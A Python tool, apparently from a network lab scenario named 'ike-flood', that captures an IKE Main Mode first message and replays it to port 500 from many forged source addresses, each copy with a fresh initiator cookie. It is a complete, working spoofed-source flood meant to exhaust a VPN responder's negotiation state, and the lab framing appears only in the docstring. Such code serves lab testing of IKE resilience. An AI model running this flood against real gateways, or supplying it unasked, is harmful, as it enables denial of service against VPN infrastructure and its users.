#!/usr/bin/env python3
"""Main Mode message 1 flooded from spoofed sources (lab scenario ike-flood). Run in a namespace by
a shell step (`python3 ike-flood.py ...`, in the scenario's folder); the VM has no tcpdump or hping.

  capture IFACE FILE [--seconds S] [--ready FILE]
      Waits (at most S seconds, default 30) for the first Main Mode message 1 that IFACE receives
      (UDP to port 500, ISAKMP exchange 2, responder cookie zero) and writes its ISAKMP bytes to
      FILE in hex, with the sender's address. Exits 1 if none came. --ready: a file created once
      the AF_PACKET socket is open, so a step can start the negotiation after it.
  flood FILE --to ADDR --sources NET/LEN --count N [--rate PPS]
      Sends the captured message N times to ADDR:500 from N different source addresses of NET/LEN
      (UDP from port 500, through a raw socket that writes its own IP header), each copy with an
      initiator cookie of its own: to the responder, N new peers each opening a negotiation.
      At most PPS datagrams a second (default 400). The responder's answers go to the spoofed
      addresses: route NET/LEN somewhere that drops them.
"""

import argparse
import ipaddress
import socket
import struct
import sys
import time

from inet_checksum import checksum

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
ISAKMP_HEADER = 28
EXCHANGE_MAIN_MODE = 2


def main_mode_1(frame):
    """(source address, ISAKMP bytes) if the Ethernet frame is a Main Mode message 1 to port 500."""
    if len(frame) < 14 + 20 + 8 + ISAKMP_HEADER or int.from_bytes(frame[12:14], "big") != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != socket.IPPROTO_UDP:
        return None
    udp = ip[ihl:]
    if int.from_bytes(udp[2:4], "big") != 500:
        return None
    ike = bytes(udp[8:int.from_bytes(udp[4:6], "big")])
    if len(ike) < ISAKMP_HEADER or ike[8:16] != bytes(8) or ike[18] != EXCHANGE_MAIN_MODE:
        return None
    return socket.inet_ntoa(bytes(ip[12:16])), ike


def capture(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((a.iface, 0))
    if a.ready:
        open(a.ready, "w").close()
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        s.settimeout(max(0.01, end - time.monotonic()))
        try:
            frame, addr = s.recvfrom(65535)
        except socket.timeout:
            break
        if addr[2] == PACKET_OUTGOING:
            continue
        mm1 = main_mode_1(frame)
        if mm1:
            with open(a.file, "w") as f:
                f.write(f"{mm1[1].hex()} from={mm1[0]}\n")
            print(f"captured Main Mode message 1 from {mm1[0]}: {len(mm1[1])} bytes, "
                  f"initiator cookie {mm1[1][0:8].hex()}")
            return 0
    print(f"no Main Mode message 1 on {a.iface} in {a.seconds:.0f} s")
    return 1


def flood(a):
    with open(a.file) as f:
        ike = bytearray.fromhex(f.readline().split()[0])
    net = ipaddress.ip_network(a.sources)
    hosts = net.num_addresses - 2
    if a.count > hosts:
        sys.exit(f"{net} has {hosts} addresses, fewer than {a.count}")
    dst = socket.inet_aton(a.to)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    udp_len = 8 + len(ike)
    t0 = time.monotonic()
    sent = 0
    for i in range(a.count):
        src = socket.inet_aton(str(net.network_address + 1 + i))
        # Initiator cookie: the number of the copy, never zero and never the captured one's.
        ike[0:8] = (0x5F1D000000000000 + i + 1).to_bytes(8, "big")
        udp = struct.pack("!HHHH", 500, 500, udp_len, 0) + ike
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
        udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
        # The kernel fills in the IP header's checksum and (left 0) its ID.
        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
        s.sendto(iph + udp, (a.to, 0))
        sent += 1
        pause = t0 + sent / a.rate - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    took = time.monotonic() - t0
    print(f"sent {sent} Main Mode message 1 copies to {a.to}:500 from {sent} sources of {net} "
          f"in {took:.1f} s ({sent / max(took, 0.001):.0f}/s)")
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("capture")
    p.add_argument("iface")
    p.add_argument("file")
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--ready")
    p = sub.add_parser("flood")
    p.add_argument("file")
    p.add_argument("--to", required=True)
    p.add_argument("--sources", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--rate", type=float, default=400.0)
    a = ap.parse_args()
    return {"capture": capture, "flood": flood}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
